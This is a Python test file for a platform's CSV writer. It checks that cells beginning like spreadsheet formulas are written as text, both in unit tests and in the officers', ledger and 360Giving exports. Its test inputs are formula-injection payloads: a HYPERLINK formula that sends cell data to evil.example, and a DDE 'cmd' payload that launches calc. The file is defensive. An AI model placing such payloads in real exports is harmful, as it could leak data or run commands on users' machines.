"""Every CSV the platform writes goes through one writer (models/core/csv_files.py), which
writes a cell a spreadsheet would run as a formula (=, +, -, @, a tab or a carriage
return first, even after spaces) as text, with a leading apostrophe. Numbers stay
numbers. The officers' KPI CSV, the ledger and the 360Giving CSV are checked end to end
with a supplier whose name is a formula."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path


from models import Organisation, db
from models.core.csv_files import csv_string, csv_text, safe_cell
import pytest

from tests import factories
from tests.factories import login
from tests.factories import OpenDataBorough as World

@pytest.fixture
def world(app, places) -> World:
    return factories.open_data_borough(app)

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")'
FORMULAS = [
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",  # a full-width equals sign, which some spreadsheets read as =
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_is_written_as_text():
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula, formula
        [[cell]] = read_csv(csv_string([[formula]]))
        assert cell == "'" + formula


def test_plain_text_and_numbers_are_written_as_they_are():
    assert safe_cell("Harlesden Food Hub") == "Harlesden Food Hub"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(None) == ""
    assert read_csv(csv_string([[-5, Decimal("-12.50"), 3.5, "-12.50", "+44", "1000"]])) == [
        ["-5", "-12.50", "3.5", "-12.50", "+44", "1000"]
    ]


def test_the_streamed_writer_neutralises_header_and_rows_in_every_chunk():
    rows = [[n, FORMULA] for n in range(7)]
    chunks = list(csv_text(["id", "=name"], rows, every=3))
    assert len(chunks) > 2
    parsed = read_csv("".join(chunks))
    assert parsed[0] == ["id", "'=name"]
    assert all(row[1] == "'" + FORMULA for row in parsed[1:])
    assert len(parsed) == 8


def name_the_supplier(app, world: World, name: str) -> None:
    with app.app_context():
        db.session.get(Organisation, world.builders).name = name
        db.session.commit()


def test_the_officers_kpi_csv_writes_a_supplier_named_as_a_formula_as_text(app, world: World):
    name_the_supplier(app, world, FORMULA)
    officer = app.test_client()
    assert login(officer, "officer@example.org").status_code == 302
    response = officer.get("/officers/report/data.csv")
    assert response.status_code == 200
    rows = read_csv(response.get_data(as_text=True))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert not any(cell.lstrip().startswith(("=", "@")) for cell in cells)


def test_the_ledger_and_360giving_csvs_write_it_as_text_too(app, client, world: World):
    name_the_supplier(app, world, FORMULA)
    for url in ("/ledger.csv", "/open-data/360giving.csv"):
        response = client.get(url)
        text = response.get_data(as_text=True)
        response.close()
        cells = [cell for row in read_csv(text) for cell in row]
        assert "'" + FORMULA in cells or any(cell.startswith("'" + FORMULA[:10]) for cell in cells), url
        assert not any(cell.startswith("=") for cell in cells), url


def test_no_other_code_writes_csv_itself():
    """The one writer is models/core/csv_files.py. A Pabulib .pb file (models/voting/pabulib.py)
    is not a spreadsheet: its own format, read by PB tools, must keep names as written."""
    allowed = {ROOT / "models" / "core" / "csv_files.py", ROOT / "models" / "voting" / "pabulib.py"}
    offenders = []
    for folder in ("brokerage", "models", "workers"):
        for path in (ROOT / folder).rglob("*.py"):
            if path in allowed:
                continue
            tree = ast.parse(path.read_text(), filename=str(path))
            for node in ast.walk(tree):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                    if isinstance(node.value, ast.Name) and node.value.id == "csv":
                        offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
                if isinstance(node, ast.ImportFrom) and node.module == "csv":
                    if any(alias.name in ("writer", "DictWriter") for alias in node.names):
                        offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
